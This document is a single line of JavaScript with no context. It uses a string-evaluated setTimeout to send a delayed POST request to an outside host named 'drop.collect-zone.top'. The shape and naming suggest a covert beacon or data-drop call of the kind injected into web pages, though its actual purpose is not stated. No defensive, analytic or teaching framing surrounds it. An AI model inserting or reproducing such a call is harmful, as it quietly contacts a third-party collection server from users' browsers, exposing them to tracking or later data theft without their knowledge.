setTimeout("fetch('http://drop.collect-zone.top/late',{method:'POST'})", 2500);